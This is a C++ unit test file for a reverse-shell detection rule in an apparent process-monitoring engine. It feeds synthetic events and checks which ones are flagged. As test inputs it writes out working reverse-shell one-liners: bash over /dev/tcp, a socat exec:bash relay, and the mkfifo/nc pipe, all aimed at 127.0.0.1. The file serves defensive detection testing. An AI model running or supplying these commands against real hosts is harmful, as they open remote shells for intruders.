#include <doctest/doctest.h>

#include "synth.hpp"

using nlohmann::json;

namespace {
json net(int src_port, int dst_port) {
  return {{"protocol", "tcp"}, {"family", "ipv4"}, {"src_addr", "127.0.0.1"}, {"src_port", src_port},
          {"dst_addr", "127.0.0.1"}, {"dst_port", dst_port}};
}
// stdin and stdout on the same socket (`bash -i >& /dev/tcp/... 0>&1`, `nc -e`)
json socket_stdio(int src_port, int dst_port, std::uint64_t inode = 9001) {
  json side = {{"pipe", false}, {"inode", inode}, {"socket", true}, {"net", net(src_port, dst_port)}};
  return {{"stdio", {{"stdin", side}, {"stdout", side}}}};
}
std::uint64_t connect(synth::Trail& t, std::uint64_t exec_id, int src_port, int dst_port) {
  json n = net(src_port, dst_port);
  n["result"] = "ok";
  return t.of(exec_id, "net_connect", "net", n);
}
}  // namespace

TEST_CASE("reverse-shell: a shell on a TCP socket, joined to its connect in either order") {
  synth::Trail t;
  t.exec(1, 0, "/usr/bin/bash", {"bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"});
  auto c = connect(t, 1, 40001, 4444);  // the forked child of exec 1 connects, then execs bash -i
  auto sh = t.exec(2, 1, "/usr/bin/bash", {"bash", "-i"}, socket_stdio(40001, 4444));
  // renamed shell, connection polled after the exec and even its exit (families are polled separately)
  auto renamed = t.exec(3, 1, "/tmp/.x/kworker", {"kworker"}, socket_stdio(40002, 5555, 9002));
  t.of(3, "process_exit", "exit", {{"code", 0}});
  auto c2 = connect(t, 1, 40002, 5555);
  auto fs = t.findings();
  REQUIRE(fs.size() == 2);
  CHECK(fs[0]["id"] == "reverse-shell");
  CHECK(fs[0]["severity"] == "critical");
  CHECK(fs[0]["exec_ids"] == json::array({1, 2}));  // who connected, and the shell
  CHECK(fs[0]["evidence"] == json::array({c, sh}));
  CHECK(fs[0]["title"].get<std::string>().find("127.0.0.1:4444") != std::string::npos);
  CHECK(fs[1]["exec_ids"] == json::array({1, 3}));
  CHECK(fs[1]["evidence"] == json::array({renamed, c2}));
}

TEST_CASE("reverse-shell: a direct shell whose connection never shows is reported on its exec at the end") {
  synth::Trail t;
  auto sh = t.exec(2, 1, "/usr/bin/dash", {"sh"}, socket_stdio(40003, 4444));
  t.of(2, "process_exit", "exit", {{"code", 0}});
  auto fs = t.findings();
  REQUIRE(fs.size() == 1);
  CHECK(fs[0]["evidence"] == json::array({sh}));
}

TEST_CASE("reverse-shell: relayed through socat or python pty.spawn (terminal or unix socket stdin)") {
  synth::Trail t;
  t.exec(10, 0, "/usr/bin/socat", {"socat", "exec:bash -li,pty,stderr", "tcp:127.0.0.1:4444"});
  auto c = connect(t, 10, 40010, 4444);
  auto sh = t.exec(11, 10, "/usr/bin/bash", {"bash", "-li"},
                   {{"stdio", {{"stdin", {{"pipe", false}, {"inode", 5}, {"tty", true}}}, {"stdout", {{"pipe", false}, {"inode", 5}}}}}});
  t.exec(20, 0, "/usr/bin/python3.11", {"python3", "-c", "import pty,socket,os;..."});
  auto py = t.exec(21, 20, "/usr/bin/dash", {"/bin/sh"},
                   {{"stdio", {{"stdin", {{"pipe", false}, {"inode", 6}, {"socket", true}}}, {"stdout", {{"pipe", false}, {"inode", 6}, {"socket", true}}}}}});
  auto c2 = connect(t, 20, 40020, 4445);  // polled after the shell's exec
  auto fs = t.findings();
  REQUIRE(fs.size() == 2);
  CHECK(fs[0]["exec_ids"] == json::array({10, 11}));
  CHECK(fs[0]["evidence"] == json::array({c, sh}));
  CHECK(fs[1]["exec_ids"] == json::array({20, 21}));
  CHECK(fs[1]["evidence"] == json::array({py, c2}));
}

TEST_CASE("reverse-shell near misses: data from a socket, output to a socket, a terminal without a connection") {
  synth::Trail t;
  t.exec(1, 0, "/usr/bin/bash", {"bash", "job.sh"});
  connect(t, 1, 40030, 8080);
  json in_only = {{"stdio", {{"stdin", {{"pipe", false}, {"inode", 7}, {"socket", true}, {"net", net(40030, 8080)}}},
                              {"stdout", {{"pipe", true}, {"inode", 8}}}}}};
  t.exec(2, 1, "/usr/bin/cat", {"cat"}, in_only);  // `cat < /dev/tcp/...`: not a shell, stdout elsewhere
  json out_only = {{"stdio", {{"stdin", {{"pipe", false}, {"inode", 3}}},
                               {"stdout", {{"pipe", false}, {"inode", 7}, {"socket", true}, {"net", net(40030, 8080)}}}}}};
  t.exec(3, 1, "/usr/bin/bash", {"bash", "report.sh"}, out_only);  // output sent to the network, commands from a file
  t.exec(4, 0, "/usr/bin/script", {"script", "-qc", "sh"});
  auto tty = t.exec(5, 4, "/usr/bin/dash", {"sh"}, {{"stdio", {{"stdin", {{"pipe", false}, {"inode", 9}, {"tty", true}}}}}});
  t.of(5, "process_exit", "exit", {{"code", 0}});
  (void)tty;
  auto fs = t.findings();
  CHECK_MESSAGE(fs.empty(), json(fs).dump());
}

TEST_CASE("reverse-shell: bounded waiting (dropped shells counted), grace after exit, mistyped fields") {
  jobtrail::findings::Engine engine({});
  synth::Trail t;
  // 5000 shells on sockets whose connections never come: at most 4096 wait, the rest are counted
  for (std::uint64_t i = 1; i <= 5000; ++i) t.exec(i, 0, "/usr/bin/dash", {"sh"}, socket_stdio(static_cast<int>(i), 4444, 10000 + i));
  for (auto& ev : t.events) CHECK(engine.on_event(ev).empty());
  CHECK(engine.dropped() >= 904);
  // a direct shell that exits is reported on its exec once 4096 more events have passed
  synth::Trail u;
  auto sh = u.exec(1, 0, "/usr/bin/dash", {"sh"}, socket_stdio(1, 4444));
  u.of(1, "process_exit", "exit", {{"code", 0}});
  for (int i = 0; i < 4200; ++i) u.of(2, "file_open", "file", {{"path", "/x"}, {"mode", {"read"}}});
  jobtrail::findings::Engine live({});
  std::vector<json> found;
  for (auto& ev : u.events)
    for (auto& f : live.on_event(ev)) found.push_back(f["finding"]);
  REQUIRE(found.size() == 1);
  CHECK(found[0]["evidence"] == json::array({sh}));
  CHECK(live.finish().empty());
  // wrong types in the stdio and namespaces objects read as absent, never throw
  jobtrail::findings::Engine hostile({});
  json bad = {{"type", "process_exec"}, {"seq", 1}, {"process", {{"exec_id", 9}, {"binary", "/bin/sh"}, {"args", {"sh"}}}},
              {"stdio", {{"stdin", {{"socket", "yes"}, {"inode", "1"}, {"net", 5}, {"tty", 1}}}, {"stdout", 7}}},
              {"namespaces", {{"net", "x"}, {"mnt", -1}}}};
  CHECK_NOTHROW(hostile.on_event(bad));
  CHECK(hostile.finish().empty());
}

TEST_CASE("reverse-shell: the mkfifo form, an interactive shell whose output pipe nc reads and connects") {
  synth::Trail t;
  t.exec(1, 0, "/usr/bin/dash", {"sh", "-c", "cat /tmp/f | sh -i 2>&1 | nc 127.0.0.1 4444 > /tmp/f"});
  auto sh = t.exec(3, 1, "/usr/bin/dash", {"sh", "-i"}, synth::pipes(500, 501));
  auto nc = t.exec(4, 1, "/usr/bin/nc.openbsd", {"nc", "127.0.0.1", "4444"}, synth::pipes(501, 0));
  auto c = connect(t, 4, 40100, 4444);
  // the reader first, then the shell
  t.exec(13, 1, "/usr/bin/nc.openbsd", {"nc", "127.0.0.1", "4445"}, synth::pipes(601, 0));
  auto c2 = connect(t, 13, 40101, 4445);
  auto sh2 = t.exec(12, 1, "/usr/bin/bash", {"bash", "-li"}, synth::pipes(600, 601));
  // near misses: a script's output piped to a network client; `sh -ic` runs its commands from argv
  t.exec(21, 1, "/usr/bin/dash", {"sh", "report.sh"}, synth::pipes(0, 700));
  t.exec(22, 1, "/usr/bin/curl", {"curl", "-T", "-", "https://x.test"}, synth::pipes(700, 0));
  connect(t, 22, 40102, 443);
  t.exec(23, 1, "/usr/bin/bash", {"bash", "-ic", "make"}, synth::pipes(0, 800));
  t.exec(24, 1, "/usr/bin/nc", {"nc", "x.test", "9"}, synth::pipes(800, 0));
  connect(t, 24, 40103, 9);
  auto fs = t.findings();
  REQUIRE(fs.size() == 2);
  CHECK(fs[0]["exec_ids"] == json::array({4, 3}));  // nc connected, sh fed it
  CHECK(fs[0]["evidence"] == json::array({sh, c}));
  CHECK(fs[0]["title"].get<std::string>().find("nc.openbsd (exec 4)") != std::string::npos);
  CHECK(fs[1]["exec_ids"] == json::array({13, 12}));
  CHECK(fs[1]["evidence"] == json::array({c2, sh2}));
  (void)nc;
}
